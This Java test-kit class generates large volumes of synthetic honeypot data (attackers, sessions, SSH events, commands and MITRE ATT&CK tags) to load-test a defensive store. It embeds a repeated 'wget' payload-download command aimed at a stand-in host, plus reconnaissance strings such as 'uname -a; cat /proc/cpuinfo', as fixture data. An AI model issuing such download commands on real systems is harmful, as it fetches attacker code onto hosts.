package org.decnet.testkit.volume;

import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;
import java.util.UUID;

/**
 * Rows as a busy fleet would have them: a few attackers do much, most do little. Written past the
 * store, because there may be ten million; the same number gives the same rows.
 *
 * @param tags number of tags
 */
public record ManyTags(long tags) {
  /** Earliest event time, in microseconds. */
  public static final long FIRST = 1_735_689_600_000_000L;

  /** Technique that has most tags. */
  public static final String TECHNIQUE = "T1000";

  /** Sub-technique that has most tags. */
  public static final String SUB_TECHNIQUE = "T1001.001";

  /** Release that all tags are of. */
  public static final String RELEASE = "18.1";

  private static final long DAY = 86_400_000_000L;
  private static final int DAYS = 400;
  private static final int TAGS_OF_ATTACKER = 50;
  private static final int TAGS_OF_SESSION = 10;
  private static final int ATTACKERS_OF_IDENTITY = 4;
  private static final int IDENTITIES_OF_CAMPAIGN = 10;
  private static final int TECHNIQUES = 60;
  private static final int DECKIES = 20;
  private static final int TACTICS = 12;
  private static final String COMMAND = "wget -q http://198.51.100.7/a; ".repeat(48);
  private static final int RARE_WORDS = 5000;
  private static final int STEP = 10_000;
  private static final List<String> KINDS =
      List.of("command", "auth_attempt", "connection", "file", "canary_trigger");

  /** Words that many commands have. */
  public static final List<String> WORDS =
      List.of("wget", "chmod", "uname", "cat", "curl", "busybox", "crontab", "rm");

  /** One row of a table. */
  private interface Binder {
    void bind(PreparedStatement statement, long row) throws SQLException;
  }

  /** How many attackers there are. */
  public long attackers() {
    return Math.max(8, tags / TAGS_OF_ATTACKER);
  }

  /** How many identities there are. */
  public long identities() {
    return Math.max(2, attackers() / ATTACKERS_OF_IDENTITY);
  }

  /** How many campaigns there are. */
  public long campaigns() {
    return Math.max(1, identities() / IDENTITIES_OF_CAMPAIGN);
  }

  /** How many sessions, and how many events there are. */
  public long sessions() {
    return Math.max(1, tags / TAGS_OF_SESSION);
  }

  /** An attacker; the first does most. */
  public static UUID attacker(long number) {
    return id(1, number);
  }

  /** An identity; the first has the first attackers. */
  public static UUID identity(long number) {
    return id(2, number);
  }

  /** A campaign; the first has the first identities. */
  public static UUID campaign(long number) {
    return id(3, number);
  }

  /** A tag. */
  public static UUID tag(long number) {
    return id(5, number);
  }

  /** An event. */
  public static UUID event(long number) {
    return id(4, number);
  }

  /** Id of a session; the session of a number is of the attacker whose share of tags it lies in. */
  public static String session(long number) {
    return "sensor-1:" + Long.toHexString(mix(number));
  }

  /** Time of an event that lies so far between the first and the last, in microseconds. */
  public static long time(double share) {
    return FIRST + (long) (share * DAYS * DAY);
  }

  /** Writes all rows; indexes are the caller's business. */
  public void fill(Connection connection) throws SQLException {
    connection.setAutoCommit(false);
    rows(
        connection,
        "attackers (uuid, ip, identity_id, first_seen, last_seen, updated_at)",
        6,
        attackers(),
        (row, i) -> {
          row.setString(1, attacker(i).toString());
          row.setString(
              2, "2001:db8::" + Long.toHexString(i >> 16) + ":" + Long.toHexString(i & 0xffff));
          row.setString(3, identity(i / ATTACKERS_OF_IDENTITY % identities()).toString());
          row.setLong(4, FIRST);
          row.setLong(5, time(share(i, 8)));
          row.setLong(6, time(1));
        });
    clusters(connection);
    sessions(connection);
    tags(connection);
    tally(connection);
    connection.setAutoCommit(true);
  }

  private void clusters(Connection connection) throws SQLException {
    rows(
        connection,
        "campaigns (uuid, owner_uuid, first_seen_at, last_seen_at, created_at, updated_at,"
            + " confidence, identity_count, locked)",
        9,
        campaigns(),
        (row, i) -> {
          row.setString(1, campaign(i).toString());
          row.setString(2, identity(i * IDENTITIES_OF_CAMPAIGN).toString());
          for (int column = 3; column <= 6; column++) {
            row.setLong(column, FIRST);
          }
          row.setDouble(7, 0.8);
          row.setInt(8, IDENTITIES_OF_CAMPAIGN);
          row.setBoolean(9, false);
        });
    rows(
        connection,
        "attacker_identities (uuid, owner_uuid, campaign_id, first_seen_at, last_seen_at,"
            + " created_at, updated_at, confidence, observation_count, locked, ja3_hashes,"
            + " ja4_hashes, ja4h_hashes, ja4_quic_hashes, hassh_hashes, jarm_hashes,"
            + " http_versions_seen, tls_cert_sha256, payload_hashes, payload_simhashes,"
            + " c2_endpoints, ipv6_link_local_iids, ssh_key_hashes)",
        23,
        identities(),
        (row, i) -> {
          row.setString(1, identity(i).toString());
          row.setString(2, attacker(i * ATTACKERS_OF_IDENTITY).toString());
          row.setString(3, campaign(i / IDENTITIES_OF_CAMPAIGN % campaigns()).toString());
          for (int column = 4; column <= 7; column++) {
            row.setLong(column, FIRST);
          }
          row.setDouble(8, 0.8);
          row.setInt(9, ATTACKERS_OF_IDENTITY);
          row.setBoolean(10, false);
          for (int column = 11; column <= 23; column++) {
            row.setString(column, "[]");
          }
        });
  }

  private void sessions(Connection connection) throws SQLException {
    rows(
        connection,
        "session (session_id, sensor, decky, service, src_ip, attacker_uuid, started_at,"
            + " duration_reported, command_count, statement_count, file_count, bytes_in, bytes_out)",
        13,
        sessions(),
        (row, i) -> {
          row.setString(1, session(i));
          row.setString(2, "sensor-1");
          row.setString(3, decky(i));
          row.setString(4, "ssh");
          row.setString(5, "192.0.2.1");
          row.setString(6, attacker(attackerOf(i)).toString());
          row.setLong(7, time(share(i, 5)));
          row.setBoolean(8, false);
          for (int column = 9; column <= 13; column++) {
            row.setLong(column, 1);
          }
        });
    rows(
        connection,
        "event (event_id, kind, time, ingested_at, sensor, source, decky, service, src_ip,"
            + " session_id, attacker_uuid, event_class, fields)",
        13,
        sessions(),
        (row, i) -> {
          row.setString(1, event(i).toString());
          row.setString(2, KINDS.get((int) (i % KINDS.size())));
          row.setLong(3, time(share(i, 5)));
          row.setLong(4, time(1));
          row.setString(5, "sensor-1");
          row.setString(6, "cowrie");
          row.setString(7, decky(i));
          row.setString(8, "ssh");
          row.setString(9, "192.0.2.1");
          row.setString(10, session(i));
          row.setString(11, attacker(attackerOf(i)).toString());
          row.setString(12, "interaction");
          row.setString(13, fields(i));
        });
    rows(
        connection,
        "command (event_id, session_id, attacker_uuid, decky, time, ordinal, command_text)",
        7,
        sessions() / KINDS.size(),
        (row, i) -> {
          long event = i * KINDS.size();
          row.setString(1, event(event).toString());
          row.setString(2, session(event));
          row.setString(3, attacker(attackerOf(event)).toString());
          row.setString(4, decky(event));
          row.setLong(5, time(share(event, 5)));
          row.setInt(6, 1);
          row.setString(7, COMMAND);
        });
  }

  private void tags(Connection connection) throws SQLException {
    rows(
        connection,
        "ttp_tag (uuid, source_kind, source_id, attacker_uuid, session_id, decky_id, tactic,"
            + " technique_id, sub_technique_id, confidence, confidence_adj, rule_id, rule_version,"
            + " rule_hash, evidence, attack_release, mitre_url, observed_at, created_at)",
        19,
        tags,
        (row, i) -> {
          long session = i / TAGS_OF_SESSION % sessions();
          int technique = (int) (TECHNIQUES * Math.pow(share(i, 6), 2));
          String id = "T" + (1000 + technique);
          row.setString(1, tag(i).toString());
          row.setString(2, KINDS.get((int) (session % KINDS.size())));
          row.setString(3, event(session).toString());
          row.setString(4, attacker(attackerOf(session)).toString());
          row.setString(5, session(session));
          row.setString(6, decky(session));
          row.setString(7, "TA" + (1001 + technique % TACTICS));
          row.setString(8, id);
          row.setString(9, technique % 3 == 1 ? id + ".001" : null);
          row.setDouble(10, 0.5 + technique % 5 * 0.1);
          row.setDouble(11, 0);
          row.setString(12, "R" + (1000 + technique));
          row.setInt(13, 1);
          row.setString(14, "0".repeat(64));
          row.setString(15, "{\"command_text\":\"uname -a; cat /proc/cpuinfo\",\"spans\":[]}");
          row.setString(16, RELEASE);
          row.setString(17, "https://attack.mitre.org/techniques/" + id);
          row.setLong(18, time(share(session, 5)) + i % TAGS_OF_SESSION);
          row.setLong(19, time(1) + i);
        });
  }

  // As the migration counts what is there.
  private static void tally(Connection connection) throws SQLException {
    try (Statement statement = connection.createStatement()) {
      statement.executeUpdate(
          "insert into ttp_tally select coalesce(sub_technique_id, technique_id), tactic, rule_id,"
              + " coalesce(attacker_uuid, identity_uuid), confidence, confidence_adj, count(*),"
              + " min(observed_at), max(observed_at) from ttp_tag group by 1, 2, 3, 4, 5, 6");
      statement.executeUpdate(
          "insert into ttp_tally select technique, tactic, rule_id, '"
              + new UUID(0, 0)
              + "', confidence, confidence_adj, sum(tag_count), min(first_seen), max(last_seen)"
              + " from ttp_tally group by technique, tactic, rule_id, confidence, confidence_adj");
      connection.commit();
    }
  }

  /** Most sessions are of few attackers: the share of the first n grows with the cube root of n. */
  private long attackerOf(long session) {
    return (long) (attackers() * Math.pow(share(session, 7), 3));
  }

  /** What a command says: a frequent word and a rare one. */
  private static String fields(long number) {
    if (number % KINDS.size() != 0) {
      return "{}";
    }
    return "{\"command_text\":\""
        + WORDS.get((int) (WORDS.size() * share(number, 9)))
        + " /tmp/"
        + rareWord(number)
        + "\"}";
  }

  /** A word of few commands. */
  public static String rareWord(long number) {
    return "w" + mix(number) % RARE_WORDS;
  }

  private static String decky(long number) {
    return "decky-" + mix(number) % DECKIES;
  }

  private static double share(long number, int salt) {
    return (double) mix(number * 8 + salt) / (1L << 62);
  }

  private static UUID id(int salt, long number) {
    return new UUID(mix(number * 8 + salt), mix(~number * 8 + salt));
  }

  /** A number below 2^62 that looks like chance. */
  private static long mix(long number) {
    long mixed = (number + 1) * 0x9E3779B97F4A7C15L;
    mixed = (mixed ^ mixed >>> 30) * 0xBF58476D1CE4E5B9L;
    mixed = (mixed ^ mixed >>> 27) * 0x94D049BB133111EBL;
    return (mixed ^ mixed >>> 31) >>> 2;
  }

  private static void rows(
      Connection connection, String columns, int width, long rows, Binder binder)
      throws SQLException {
    String sql = "insert into " + columns + " values (" + "?, ".repeat(width - 1) + "?)";
    try (PreparedStatement statement = connection.prepareStatement(sql)) {
      for (long row = 0; row < rows; row++) {
        binder.bind(statement, row);
        statement.addBatch();
        if ((row + 1) % STEP == 0 || row + 1 == rows) {
          statement.executeBatch();
          connection.commit();
        }
      }
    }
  }
}
